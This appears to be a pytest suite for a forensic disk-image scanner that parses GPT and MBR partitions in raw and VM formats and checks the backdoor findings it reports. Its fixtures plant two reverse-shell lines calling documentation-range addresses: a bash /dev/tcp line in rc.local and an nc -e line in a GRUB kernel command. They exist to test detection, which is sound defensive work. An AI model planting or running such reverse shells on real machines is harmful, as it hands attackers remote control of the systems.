"""Whole-disk images: the partitions of a GPT or MBR disk (raw, qcow2, VMDK, VHD, VHDX) are found,
read by their content and scanned like a directory; bad tables are reported with their offset.

Disks are built here with the standard tools and no mount or loop device: ``mke2fs -d`` fills an
ext4 filesystem from a directory, ``mkfs.vfat`` + ``mcopy`` an EFI system partition, ``sfdisk``
writes the partition table into a sparse file, ``qemu-img convert`` makes the VM formats.
"""

from __future__ import annotations

import functools
import os
import shutil
import stat
import struct
import subprocess
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cranewatch.cli import main
from cranewatch.errors import ImageError
from cranewatch.forensics import Limits, ScanResult, open_image, scan_image
from cranewatch.forensics.artefacts import Planted, plant
from cranewatch.forensics.disk import DiskImage, Partition, read_layout, sniff_container
from cranewatch.forensics.image import detect_format

MIB = 1 << 20
ESP = "C12A7328-F81F-11D2-BA4B-00A0C93EC93B"
LINUX = "0FC63DAF-8483-4772-8E79-3D69D8477DE4"
SWAP = "0657FD6D-A4AB-43C4-84E5-0933C84B4F4F"
GRUB_CFG = 'set timeout=1\nmenuentry "cms" {\n  linux /vmlinuz root=/dev/sda2 init=/bin/sh -c "nc 203.0.113.9 4444 -e /bin/sh"\n}\n'


def _which(name: str) -> str:
    found = shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")
    if found is None:
        pytest.skip(f"{name} is not installed (scripts/install-deps.sh installs it)")
    return found


def _tree(root: Path) -> Path:
    """A small Linux root with every planted artefact (no package database: nothing is vouched for)."""
    for d in ("etc", "usr/bin", "var/lib"):
        (root / d).mkdir(parents=True, exist_ok=True)
    (root / "etc/hostname").write_text("cms-pc\n")
    (root / "etc/rc.local").write_text("#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1 &\nexit 0\n")
    os.chmod(root / "etc/rc.local", 0o755)
    plant(root, package_file=None)
    return root


def _ext4(tree: Path, out: Path, size_mib: int) -> Path:
    subprocess.run([_which("mke2fs"), "-q", "-F", "-t", "ext4", "-d", str(tree), str(out), f"{size_mib}M"], check=True)
    return out


def _fat(tree: Path, out: Path, size_mib: int) -> Path:
    subprocess.run(["truncate", "-s", f"{size_mib}M", str(out)], check=True)
    subprocess.run([_which("mkfs.vfat"), "-F", "32" if size_mib >= 33 else "16", str(out)], check=True, stdout=subprocess.DEVNULL)
    env = {**os.environ, "MTOOLS_SKIP_CHECK": "1"}
    for item in sorted(tree.iterdir()):
        subprocess.run([_which("mcopy"), "-s", "-i", str(out), str(item), "::/"], check=True, env=env)
    return out


def _swap(out: Path, size_mib: int) -> Path:
    subprocess.run(["truncate", "-s", f"{size_mib}M", str(out)], check=True)
    subprocess.run([_which("mkswap"), str(out)], check=True, stdout=subprocess.DEVNULL)
    return out


def _disk(out: Path, label: str, parts: list[tuple[Path | None, int, str]], extra_mib: int = 1) -> Path:
    """A disk of ``parts`` (content file or None, size MiB, sfdisk type), written at 1 MiB steps."""
    total = 1 + sum(size for _, size, _ in parts) + extra_mib
    subprocess.run(["truncate", "-s", f"{total}M", str(out)], check=True)
    lines = [f"label: {label}"]
    start = 1
    for _content, size, kind in parts:
        lines.append(f"start={start * 2048}, size={size * 2048}, type={kind}")
        start += size
    subprocess.run([_which("sfdisk"), "-q", str(out)], input="\n".join(lines) + "\n", text=True, check=True,
                   stdout=subprocess.DEVNULL)
    start = 1
    with open(out, "r+b") as disk:
        for content, size, _kind in parts:
            if content is not None:
                disk.seek(start * MIB)
                with open(content, "rb") as fh:
                    shutil.copyfileobj(fh, disk, MIB)
            start += size
    return out


def _convert(raw: Path, fmt: str, out: Path) -> Path:
    """qemu-img's format, or ``vpc-fixed`` (a raw disk with a VHD footer) and ``vmdk-stream``
    (streamOptimized, the compressed VMDK that OVA appliances carry)."""
    options = {"vpc-fixed": ["-O", "vpc", "-o", "subformat=fixed"],
               "vmdk-stream": ["-O", "vmdk", "-o", "subformat=streamOptimized"]}.get(fmt, ["-O", fmt])
    subprocess.run([_which("qemu-img"), "convert", "-q", "-f", "raw", *options, str(raw), str(out)], check=True)
    return out


def _keys(result: ScanResult, strip: str = "") -> set[tuple[str, str, str]]:
    out = set()
    for f in result.findings:
        path = f.evidence[0].path or "" if f.evidence else ""
        if strip and path.startswith(strip):
            path = path[len(strip):]
        out.add((f.rule, f.severity.name, path))
    return out


@pytest.fixture(scope="module")
def planted_tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _tree(tmp_path_factory.mktemp("root"))


@pytest.fixture(scope="module")
def gpt_disk(tmp_path_factory: pytest.TempPathFactory, planted_tree: Path) -> Path:
    work = tmp_path_factory.mktemp("gpt")
    esp_tree = work / "esp"
    (esp_tree / "EFI/debian").mkdir(parents=True)
    (esp_tree / "EFI/debian/grub.cfg").write_text(GRUB_CFG)
    esp = _fat(esp_tree, work / "esp.img", 34)
    root = _ext4(planted_tree, work / "root.img", 24)
    return _disk(work / "disk.raw", "gpt", [(esp, 34, ESP), (root, 24, LINUX)])


@pytest.fixture(scope="module")
def dir_result(planted_tree: Path) -> ScanResult:
    return scan_image(planted_tree, workers=1)


@pytest.fixture(scope="module")
def gpt_result(gpt_disk: Path) -> ScanResult:
    return scan_image(gpt_disk, workers=1)


# --- the partition table, parsed by hand-checked offsets -------------------------------------------


def _sfdisk_json(disk: Path) -> list[dict[str, object]]:
    import json

    dump = subprocess.run([_which("sfdisk"), "--json", str(disk)], capture_output=True, text=True, check=True)
    return list(json.loads(dump.stdout)["partitiontable"]["partitions"])


def _read_at(path: Path):  # type: ignore[no-untyped-def]
    data = path.read_bytes()
    return (lambda offset, length: data[offset : offset + length]), len(data)


def test_gpt_layout_matches_sfdisk(gpt_disk: Path) -> None:
    read_at, size = _read_at(gpt_disk)
    layout = read_layout(read_at, size)
    assert layout.scheme == "gpt" and layout.problems == ()
    want = [(int(p["start"]) * 512, int(p["size"]) * 512) for p in _sfdisk_json(gpt_disk)]  # type: ignore[call-overload]
    assert [(p.offset, p.size) for p in layout.partitions] == want == [(MIB, 34 * MIB), (35 * MIB, 24 * MIB)]
    assert [(p.label, p.type) for p in layout.partitions] == [("p1", "EFI system"), ("p2", "Linux filesystem")]


def test_mbr_with_logical_partitions(tmp_path: Path, planted_tree: Path) -> None:
    root = _ext4(planted_tree, tmp_path / "root.img", 24)
    swap = _swap(tmp_path / "swap.img", 4)
    disk = tmp_path / "mbr.raw"
    subprocess.run(["truncate", "-s", "40M", str(disk)], check=True)
    # p1 swap, p2 extended holding p5 (ext4) and p6 (empty Linux): sfdisk numbers logicals from 5
    script = ("label: dos\nstart=2048, size=8192, type=82\nstart=10240, size=71680, type=5\n"
              "start=12288, size=49152, type=83\nstart=63488, size=8192, type=83\n")
    subprocess.run([_which("sfdisk"), "-q", str(disk)], input=script, text=True, check=True, stdout=subprocess.DEVNULL)
    with open(disk, "r+b") as fh:
        fh.seek(2048 * 512)
        fh.write(swap.read_bytes())
        fh.seek(12288 * 512)
        fh.write(root.read_bytes())
    read_at, size = _read_at(disk)
    layout = read_layout(read_at, size)
    want = [(int(p["node"][-1]), int(p["start"]) * 512) for p in _sfdisk_json(disk) if p["type"] != "5"]  # type: ignore[index, call-overload]
    assert [(p.index, p.offset) for p in layout.partitions] == want == [(1, MIB), (5, 12288 * 512), (6, 63488 * 512)]
    assert [p.type for p in layout.partitions] == ["0x82", "0x83", "0x83"]
    result = scan_image(disk, workers=1)
    assert ("backdoor", "p5:/etc/rc.local") in {(f.category, f.evidence[0].path) for f in result.findings}
    assert any("p1" in w and "swap" in w and "skipped" in w for w in result.warnings)
    assert any("p6" in w and "empty" in w for w in result.warnings)


# --- findings: the same as the directory scan, named by partition -----------------------------------


def test_gpt_disk_gives_the_directory_findings_named_by_partition(gpt_result: ScanResult, dir_result: ScanResult) -> None:
    root_keys = {k for k in _keys(gpt_result) if k[2].startswith("p2:/")}
    assert {(r, s, p[len("p2:/"):]) for r, s, p in root_keys} == _keys(dir_result)
    assert len(root_keys) >= 15
    paths = {f.evidence[0].path for f in gpt_result.findings}
    assert "p2:/etc/rc.local" in paths and "p2:/root/.ssh/authorized_keys" in paths
    assert "p2:/etc/teamviewer/global.conf" in paths
    # root findings keep the directory scan's ids; evidence says where the partition is
    assert {f.id for f in gpt_result.findings if f.evidence[0].path.startswith("p2:/")} == {f.id for f in dir_result.findings}
    rc = next(f for f in gpt_result.findings if f.evidence[0].path == "p2:/etc/rc.local")
    assert rc.evidence[0].values["partition_offset"] == 35 * MIB and rc.evidence[0].values["filesystem"] == "ext"
    assert gpt_result.inputs[0].format == "disk"
    assert any(w.startswith("disk (GPT, raw): scanned p1 fat at byte 1048576, p2 ext (root) at byte 36700160") for w in gpt_result.warnings)


def test_efi_system_partition_is_extracted_and_scanned(gpt_result: ScanResult) -> None:
    esp = [f for f in gpt_result.findings if (f.evidence[0].path or "").startswith("p1:/")]
    assert "p1:/EFI/debian/grub.cfg" in {f.evidence[0].path for f in esp}, [f.to_json() for f in esp]


@pytest.mark.parametrize("fmt", ["qcow2", "vmdk", "vhdx", "vpc", "vpc-fixed", "vmdk-stream"])
def test_vm_disk_formats_give_the_raw_disk_findings(tmp_path: Path, gpt_disk: Path, gpt_result: ScanResult, fmt: str) -> None:
    image = _convert(gpt_disk, fmt, tmp_path / f"disk.{fmt}")
    expected = {"qcow2": "qcow2", "vmdk": "vmdk", "vhdx": "vhdx", "vpc": "vhd", "vpc-fixed": "vhd", "vmdk-stream": "vmdk"}[fmt]
    assert sniff_container(image) == expected
    assert detect_format(image) == ("disk", None)
    result = scan_image(image, workers=1)
    assert _keys(result) == _keys(gpt_result)
    assert any(f"disk (GPT, {expected})" in w for w in result.warnings)


def test_cli_scans_a_qcow2_disk(tmp_path: Path, gpt_disk: Path, capsys: pytest.CaptureFixture[str]) -> None:
    image = _convert(gpt_disk, "qcow2", tmp_path / "crane.qcow2")
    code = main(["scan-image", str(image), "--format", "jsonl"])
    out = capsys.readouterr().out
    assert code == 0
    assert '"path": "p2:/etc/rc.local"' in out


def test_qcow2_with_a_backing_file_on_the_host_is_refused(tmp_path: Path, gpt_disk: Path) -> None:
    image = tmp_path / "overlay.qcow2"
    subprocess.run([_which("qemu-img"), "create", "-q", "-f", "qcow2", "-F", "raw", "-b", str(gpt_disk), str(image)], check=True)
    with pytest.raises(ImageError, match="backing file"):
        open_image(image)


def test_vmdk_descriptor_naming_a_host_file_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "host-secret.raw"
    secret.write_bytes(b"\x00" * MIB)
    descriptor = tmp_path / "crane.vmdk"
    descriptor.write_text(
        '# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\ncreateType="monolithicFlat"\n\n'
        f'RW 2048 FLAT "{secret}" 0\n\nddb.virtualHWVersion = "4"\nddb.geometry.cylinders = "2"\n'
        'ddb.geometry.heads = "16"\nddb.geometry.sectors = "63"\nddb.adapterType = "ide"\n'
    )
    assert sniff_container(descriptor) == "vmdk"
    with pytest.raises(ImageError, match="extent files beside itself"):
        open_image(descriptor)


def test_disk_beyond_the_size_limit_is_refused_before_converting(tmp_path: Path, gpt_disk: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    image = _convert(gpt_disk, "qcow2", tmp_path / "disk.qcow2")
    converted: list[str] = []
    real_run = subprocess.run

    def spy(argv, *args, **kwargs):  # type: ignore[no-untyped-def]
        converted.extend(a for a in argv if a == "convert")
        return real_run(argv, *args, **kwargs)

    monkeypatch.setattr(subprocess, "run", spy)
    # 60 MiB virtual, but only the written clusters count (14 of 64 KiB here with e2fsprogs 1.47)
    with pytest.raises(ImageError, match=r"beyond the 262144-byte size limit") as refused:
        open_image(image, Limits(max_total_bytes=256 << 10))
    assert converted == []
    data = int(refused.value.message.split(" bytes of data")[0].rsplit(" ", 1)[1])
    assert 256 << 10 < data < 4 * MIB  # the data written, not the 60 MiB virtual size


def test_e01_disk(tmp_path: Path, gpt_disk: Path, gpt_result: ScanResult) -> None:
    acquire = _which("ewfacquire")
    target = tmp_path / "crane"
    subprocess.run([acquire, "-u", "-q", "-t", str(target), "-f", "encase6", "-c", "fast", str(gpt_disk)], check=True,
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    e01 = tmp_path / "crane.E01"
    assert sniff_container(e01) == "e01"
    assert _keys(scan_image(e01, workers=1)) == _keys(gpt_result)


# --- bad tables and disks with nothing to read ------------------------------------------------------


def test_corrupt_primary_gpt_is_reported_and_the_backup_used(tmp_path: Path, gpt_disk: Path, gpt_result: ScanResult) -> None:
    disk = tmp_path / "bad.raw"
    shutil.copyfile(gpt_disk, disk)
    with open(disk, "r+b") as fh:
        fh.seek(512 + 24)  # the primary header's "current LBA": the header CRC no longer matches
        fh.write(struct.pack("<Q", 99))
    result = scan_image(disk, workers=1)
    assert any("GPT header at byte 512: header CRC32 mismatch" in w for w in result.warnings)
    backup = disk.stat().st_size - 512
    assert any(f"backup GPT at byte {backup}" in w for w in result.warnings)
    assert _keys(result) == _keys(gpt_result)


def test_partition_past_the_end_is_reported_with_its_offset_and_the_rest_scanned(tmp_path: Path, gpt_disk: Path) -> None:
    disk = tmp_path / "mbr.raw"
    with open(gpt_disk, "rb") as src:
        src.seek(35 * MIB)
        root = src.read(24 * MIB)
    subprocess.run(["truncate", "-s", "30M", str(disk)], check=True)
    script = "label: dos\nstart=2048, size=49152, type=83\nstart=51200, size=8192, type=83\n"
    subprocess.run([_which("sfdisk"), "-q", str(disk)], input=script, text=True, check=True, stdout=subprocess.DEVNULL)
    with open(disk, "r+b") as fh:
        fh.seek(MIB)
        fh.write(root)
        # entry 2 (at byte 446 + 16) now claims 1 GiB: past the end of the 30 MiB disk
        fh.seek(446 + 16 + 12)
        fh.write(struct.pack("<I", 2 * MIB))
    result = scan_image(disk, workers=1)
    assert any("MBR entry 2 at byte 462" in w and "runs past the end" in w for w in result.warnings), result.warnings
    assert "p1:/etc/rc.local" in {f.evidence[0].path for f in result.findings}


def _mbr_entry(block: bytearray, at: int, slot: int, kind: int, start: int, sectors: int) -> None:
    """Write MBR/EBR entry ``slot`` (0-3) of the sector at byte ``at``, and its boot signature."""
    block[at + 510 : at + 512] = b"\x55\xaa"
    entry = at + 446 + 16 * slot
    block[entry + 4] = kind
    block[entry + 8 : entry + 16] = struct.pack("<II", start, sectors)


def test_ebr_chain_loop_is_reported_not_followed_forever() -> None:
    # An extended partition at LBA 2048; its first EBR holds a logical partition at +1 and
    # links to a second EBR at +8 (LBAs relative to the extended partition's start).
    disk = bytearray(4 * MIB)
    _mbr_entry(disk, 0, 0, 0x05, 2048, 4096)
    first, second = 2048 * 512, (2048 + 8) * 512
    _mbr_entry(disk, first, 0, 0x83, 1, 100)
    _mbr_entry(disk, first, 1, 0x05, 8, 100)
    _mbr_entry(disk, second, 0, 0x83, 1, 50)
    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
    assert [(p.index, p.offset, p.size) for p in layout.partitions] == [(5, 2049 * 512, 100 * 512), (6, 2057 * 512, 50 * 512)]
    assert layout.problems == ()
    _mbr_entry(disk, second, 1, 0x05, 8, 100)  # the second EBR links to itself
    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
    assert [p.index for p in layout.partitions] == [5, 6]
    assert layout.problems == (f"extended partition chain loops back to the EBR at byte {second}: stopped there",)


def test_damaged_gpt_entries_crc_is_reported_with_offset() -> None:
    sector = 512
    disk = bytearray(2 * MIB)
    disk[510:512] = b"\x55\xaa"
    disk[446 + 4] = 0xEE
    entries = bytearray(128 * 128)
    struct.pack_into("<16s16sQQ", entries, 0, bytes.fromhex("af3dc60f838472478e793d69d8477de4"), b"\x01" * 16, 34, 2000)
    header = bytearray(92)
    struct.pack_into("<8sIIIIQQQQ16sQIII", header, 0, b"EFI PART", 0x10000, 92, 0, 0, 1, 4095, 34, 4000,
                     b"\x02" * 16, 2, 128, 128, zlib.crc32(entries))
    struct.pack_into("<I", header, 16, zlib.crc32(header))
    disk[sector : sector + 92] = header
    disk[2 * sector : 2 * sector + len(entries)] = entries
    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
    assert [(p.offset, p.type) for p in layout.partitions] == [(34 * 512, "Linux filesystem")]
    disk[2 * sector + 40] ^= 0xFF  # flip a byte of the first entry's end LBA
    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
    assert layout.partitions == ()
    assert "GPT partition array at byte 1024 (of the header at byte 512): CRC32 mismatch" in layout.problems
    assert "no GPT header signature at byte 2096640" in layout.problems  # no backup at the last LBA


def test_disk_with_only_swap_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    swap = _swap(tmp_path / "swap.img", 8)
    disk = _disk(tmp_path / "swap.raw", "gpt", [(swap, 8, SWAP)])
    with pytest.raises(ImageError, match=r"holds no partition with a filesystem cranewatch reads \(p1 .*swap space"):
        open_image(disk)
    assert main(["scan-image", str(disk)]) == 3
    err = capsys.readouterr().err
    assert "swap" in err and "Traceback" not in err


def test_a_bare_fat_or_ext_partition_is_not_taken_for_a_disk(tmp_path: Path, planted_tree: Path) -> None:
    tree = tmp_path / "t"
    (tree / "EFI").mkdir(parents=True)
    (tree / "EFI/x").write_text("x")
    assert sniff_container(_fat(tree, tmp_path / "esp.img", 34)) is None
    assert detect_format(_ext4(planted_tree, tmp_path / "root.img", 24)) == ("ext", None)


def test_disk_image_closes_every_volume(gpt_disk: Path) -> None:
    image = open_image(gpt_disk)
    assert isinstance(image, DiskImage)
    roots = [v.image.root for v in image.volumes]
    assert [v.label for v in image.volumes] == ["p1", "p2"] and all(r.exists() for r in roots)
    assert "etc/rc.local" in image.entries  # the disk presents its root volume
    image.close()
    assert not any(r.exists() for r in roots)


def test_partition_describe_names_index_offset_and_type() -> None:
    part = Partition(2, 35 * MIB, 24 * MIB, "gpt", "Linux filesystem", "root")
    assert part.describe() == "p2 'root' (GPT Linux filesystem, 25165824 bytes at byte 36700160)"


# --- the acceptance case on a real Debian (slow: debootstrap tree, ~250 MB disks) ----------------------


@pytest.fixture(scope="module")
def debian_disks(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Planted], dict[str, Path]]:
    from forensics_helpers import copy_tree, rootfs

    work = tmp_path_factory.mktemp("debian-disk")
    tree = copy_tree(rootfs(), work / "tree")
    planted = plant(tree)
    esp_tree = work / "esp"
    (esp_tree / "EFI/debian").mkdir(parents=True)
    (esp_tree / "EFI/debian/grub.cfg").write_text("set timeout=1\nsearch --fs-uuid --set=root 1234\n")
    used = int(subprocess.run(["du", "-sm", str(tree)], capture_output=True, text=True, check=True).stdout.split()[0])
    size = used * 3 // 2 + 32
    raw = _disk(work / "disk.raw", "gpt", [(_fat(esp_tree, work / "esp.img", 34), 34, ESP),
                                           (_ext4(tree, work / "root.img", size), size, LINUX)])
    disks = {"raw": raw, "qcow2": _convert(raw, "qcow2", work / "disk.qcow2"), "vmdk": _convert(raw, "vmdk", work / "disk.vmdk")}
    return tree, planted, disks


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["qcow2", "vmdk"])
def test_debian_disk_gives_the_planted_artefacts_of_the_directory_scan(
    debian_disks: tuple[Path, list[Planted], dict[str, Path]], fmt: str
) -> None:
    tree, planted, disks = debian_disks
    osv = Path(__file__).parent / "data" / "forensics" / "osv"
    on_dir = scan_image(tree, vulndb=osv)
    on_disk = scan_image(disks[fmt], vulndb=osv)
    assert _keys(on_disk, strip="p2:/") == _keys(on_dir)
    found = {(f.category, f.evidence[0].path) for f in on_disk.findings}
    missing = [a for a in planted if (a.category, f"p2:/{a.path}") not in found]
    assert missing == []
    assert not any(f.severity.name in ("HIGH", "CRITICAL") for f in on_disk.findings if f.evidence[0].path.startswith("p1:/"))
    assert on_disk.inventory.packages == on_dir.inventory.packages  # the root partition's dpkg database


def test_fat_directory_declaring_more_than_the_partition_holds_is_refused(tmp_path: Path, planted_tree: Path) -> None:
    esp_tree = tmp_path / "esp"
    esp_tree.mkdir()
    (esp_tree / "startup.nsh").write_text("fs0:\\EFI\\debian\\grubx64.efi\n")
    esp = _fat(esp_tree, tmp_path / "esp.img", 16)
    data = bytearray(esp.read_bytes())
    entry = data.index(b"STARTUP NSH")  # the 8.3 directory entry; its size field is at +28
    data[entry + 28 : entry + 32] = struct.pack("<I", 0xFFFF_F000)
    esp.write_bytes(data)
    root = _ext4(planted_tree, tmp_path / "root.img", 24)
    disk = _disk(tmp_path / "disk.raw", "gpt", [(esp, 16, ESP), (root, 24, LINUX)])
    result = scan_image(disk, workers=1)
    assert any(w.startswith("p1 (GPT EFI system") and f"declare {0xFFFF_F000} bytes" in w for w in result.warnings), result.warnings
    assert "p2:/etc/rc.local" in {f.evidence[0].path for f in result.findings}


def test_the_size_limit_is_one_budget_for_the_whole_disk(tmp_path: Path, planted_tree: Path) -> None:
    a = _ext4(planted_tree, tmp_path / "a.img", 24)
    b = _ext4(planted_tree, tmp_path / "b.img", 24)
    disk = _disk(tmp_path / "two.raw", "dos", [(a, 24, "83"), (b, 24, "83")])
    with open_image(disk) as image:
        per_partition = len(image.entries)
        assert [v.label for v in image.volumes] == ["p1", "p2"]
    with open_image(disk, Limits(max_files=per_partition + 5)) as image:
        # the second partition gets what the first left of the budget: its first 5 members are
        # read and scanned, the rest is a problem of that partition (never fatal to the disk)
        assert [v.label for v in image.volumes] == ["p1", "p2"]
        first, second = image.volumes
        assert len(first.image.entries) == per_partition and first.image.problems == []
        assert len(second.image.entries) == 5
        assert len(second.image.problems) == 1 and "more than 5 members" in second.image.problems[0]
    with open_image(disk, Limits(max_files=per_partition)) as image:
        assert any(w.startswith("p2 (MBR 0x83") and "used up the size or file-count limit" in w for w in image.warnings)


def test_two_root_filesystems_give_two_findings_each(tmp_path: Path, planted_tree: Path) -> None:
    # A/B update schemes keep two roots: the second one's findings are its own, not merged away
    a = _ext4(planted_tree, tmp_path / "a.img", 24)
    b = _ext4(planted_tree, tmp_path / "b.img", 24)
    disk = _disk(tmp_path / "ab.raw", "gpt", [(a, 24, LINUX), (b, 24, LINUX)])
    result = scan_image(disk, workers=1)
    rc = [f for f in result.findings if f.evidence[0].path in ("p1:/etc/rc.local", "p2:/etc/rc.local") and f.category == "backdoor"]
    assert sorted(f.evidence[0].path for f in rc) == ["p1:/etc/rc.local", "p2:/etc/rc.local"]
    assert rc[0].id != rc[1].id


@pytest.mark.parametrize("tool", ["gzip", "xz", "zstd"])
def test_compressed_raw_disk_as_dd_and_gzip_make_it(tmp_path: Path, gpt_disk: Path, gpt_result: ScanResult, tool: str) -> None:
    packed = tmp_path / f"disk.raw.{tool}"
    with open(gpt_disk, "rb") as src, open(packed, "wb") as out:
        subprocess.run([_which(tool), "-1", "-c"], stdin=src, stdout=out, check=True)
    suffix = {"gzip": "gz", "xz": "xz", "zstd": "zst"}[tool]
    assert detect_format(packed) == ("disk", suffix)
    result = scan_image(packed, workers=1)
    assert _keys(result) == _keys(gpt_result)
    assert any(f"disk (GPT, raw.{suffix})" in w for w in result.warnings)


def test_truncated_compressed_disk_is_a_clear_error(tmp_path: Path, gpt_disk: Path) -> None:
    packed = tmp_path / "disk.raw.gz"
    with open(gpt_disk, "rb") as src, open(packed, "wb") as out:
        subprocess.run(["gzip", "-1", "-c"], stdin=src, stdout=out, check=True)
    data = packed.read_bytes()
    packed.write_bytes(data[: len(data) // 3])
    with pytest.raises(ImageError, match="gz stream"):
        open_image(packed)


def test_reference_directory_against_the_disk_root(gpt_disk: Path, planted_tree: Path) -> None:
    result = scan_image(gpt_disk, reference=planted_tree, workers=1)
    assert result.diff is not None
    assert result.diff.changed == () and result.diff.removed == ()
    assert result.diff.added == ("p1:/EFI/debian/grub.cfg",)  # the ESP; the root is the reference's tree
    assert result.findings and all(f.evidence[0].path.startswith("p1:/") for f in result.findings)


def test_squashfs_root_partition(tmp_path: Path, planted_tree: Path, dir_result: ScanResult) -> None:
    squash = tmp_path / "root.sqfs"
    subprocess.run([_which("mksquashfs"), str(planted_tree), str(squash), "-quiet", "-no-progress", "-noappend"], check=True,
                   stdout=subprocess.DEVNULL)
    size = squash.stat().st_size // MIB + 1
    disk = _disk(tmp_path / "sq.raw", "dos", [(squash, size, "83")])
    result = scan_image(disk, workers=1)
    assert _keys(result, strip="p1:/") == _keys(dir_result)
    assert any("p1 squashfs (root)" in w for w in result.warnings)


def test_unreadable_ntfs_and_unknown_partitions_are_named_and_skipped(tmp_path: Path, planted_tree: Path) -> None:
    ntfs = tmp_path / "ntfs.img"
    boot = bytearray(MIB)
    boot[0:11] = b"\xebR\x90NTFS    "  # an NTFS boot sector's jump and OEM id
    boot[510:512] = b"\x55\xaa"
    ntfs.write_bytes(bytes(boot))
    noise = tmp_path / "noise.img"
    noise.write_bytes(bytes(range(256)) * (MIB // 256))
    root = _ext4(planted_tree, tmp_path / "root.img", 24)
    disk = _disk(tmp_path / "mixed.raw", "gpt", [(ntfs, 1, "EBD0A0A2-B9E5-4433-87C0-68B6B72699C7"), (noise, 1, LINUX), (root, 24, LINUX)])
    result = scan_image(disk, workers=1)
    # (a boot sector alone: libtsk finds no NTFS behind it, and the next partitions are read)
    assert ("p1 (GPT Microsoft basic data, 1048576 bytes at byte 1048576): ntfs filesystem not readable: not a readable "
            "NTFS volume: Cannot determine file system type") in result.warnings
    assert "p2 (GPT Linux filesystem, 1048576 bytes at byte 2097152): unknown content (no filesystem magic found): skipped" in result.warnings
    assert "p3:/etc/rc.local" in {f.evidence[0].path for f in result.findings}


def test_both_gpt_copies_damaged_names_both_offsets(tmp_path: Path, gpt_disk: Path, capsys: pytest.CaptureFixture[str]) -> None:
    disk = tmp_path / "dead.raw"
    shutil.copyfile(gpt_disk, disk)
    size = disk.stat().st_size
    with open(disk, "r+b") as fh:
        for header in (512, size - 512):
            fh.seek(header + 24)
            fh.write(b"\xff" * 8)
    assert main(["scan-image", str(disk)]) == 3
    err = capsys.readouterr().err
    assert "GPT header at byte 512: header CRC32 mismatch" in err
    assert f"GPT header at byte {size - 512}: header CRC32 mismatch" in err
    assert "neither the primary nor the backup GPT is valid" in err and "Traceback" not in err


def test_e01_without_ewf_tools_says_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    e01 = tmp_path / "crane.E01"
    e01.write_bytes(b"EVF\x09\x0d\x0a\xff\x00" + bytes(4096))
    real_which = shutil.which
    monkeypatch.setattr(shutil, "which", lambda name, *a, **k: None if name.startswith("ewf") else real_which(name, *a, **k))
    assert main(["scan-image", str(e01)]) == 4
    assert "install the Debian package ewf-tools" in capsys.readouterr().err


def test_gpt_on_a_4k_sector_disk(tmp_path: Path, planted_tree: Path) -> None:
    root = _ext4(planted_tree, tmp_path / "root.img", 24)
    disk = tmp_path / "4k.raw"
    subprocess.run(["truncate", "-s", "32M", str(disk)], check=True)
    # sfdisk follows a file's 512-byte sectors; fdisk -b 4096 writes a 4Kn table (g: new GPT,
    # n: partition 1 from sector 256 to 6399, w: write)
    subprocess.run([_which("fdisk"), "-b", "4096", str(disk)], input="g\nn\n1\n256\n6399\nw\n", text=True, check=True,
                   capture_output=True)
    with open(disk, "r+b") as fh:
        fh.seek(MIB)
        fh.write(root.read_bytes())
    read_at, size = _read_at(disk)
    layout = read_layout(read_at, size)
    assert (layout.sector, [(p.offset, p.size) for p in layout.partitions]) == (4096, [(MIB, 24 * MIB)])
    assert "p1:/etc/rc.local" in {f.evidence[0].path for f in scan_image(disk, workers=1).findings}


@functools.cache
def _small_gpt_disk() -> bytes:
    """A 2 MiB GPT disk with two partitions, by sfdisk."""
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        disk = Path(tmp) / "d.raw"
        subprocess.run(["truncate", "-s", "2M", str(disk)], check=True)
        subprocess.run([_which("sfdisk"), "-q", str(disk)], check=True, text=True, stdout=subprocess.DEVNULL,
                       input=f"label: gpt\nstart=40, size=1000, type={LINUX}\nstart=2048, size=1000, type={SWAP}\n")
        return disk.read_bytes()


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.tuples(st.integers(0, 2 * MIB - 1), st.integers(0, 255)), min_size=1, max_size=12))
def test_mangled_tables_never_crash_and_never_point_outside(flips: list[tuple[int, int]]) -> None:
    disk = bytearray(_small_gpt_disk())
    for where, value in flips:
        # aim most flips at the tables: the MBR, the primary header and array, the backup header
        where = (where % 1024, 1024 + where % 16384, len(disk) - 512 + where % 512, where)[where % 4]
        disk[where] = value
    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
    for part in layout.partitions:
        assert part.offset >= 0 and part.offset + part.size <= len(disk)



def test_ext_partition_of_a_dd_image_is_read_in_place_not_copied(tmp_path: Path, planted_tree: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from cranewatch.forensics import disk as disk_module

    root = _ext4(planted_tree, tmp_path / "root.img", 24)
    image = _disk(tmp_path / "dd.raw", "dos", [(root, 24, "83")])
    subprocess.run(["fallocate", "-l", "26M", str(image)], check=True)  # every block allocated, as dd writes them
    copies: list[object] = []
    monkeypatch.setattr(disk_module, "_copy_extents", lambda *a: copies.append(a))
    # The files hold well under 2 MiB; the partition is 24 MiB of allocated blocks.
    with open_image(image, Limits(max_total_bytes=2 * MIB)) as opened:
        assert "etc/rc.local" in opened.entries
    assert copies == []


def test_partitions_mounted_by_fstab_are_scanned_where_the_system_sees_them(tmp_path: Path, planted_tree: Path) -> None:
    full = tmp_path / "full"
    shutil.copytree(planted_tree, full, symlinks=True)
    # Persistence that path-aware checks only see at its system path: /var/spool/cron, ~/.bashrc
    (full / "var/spool/cron/crontabs").mkdir(parents=True)
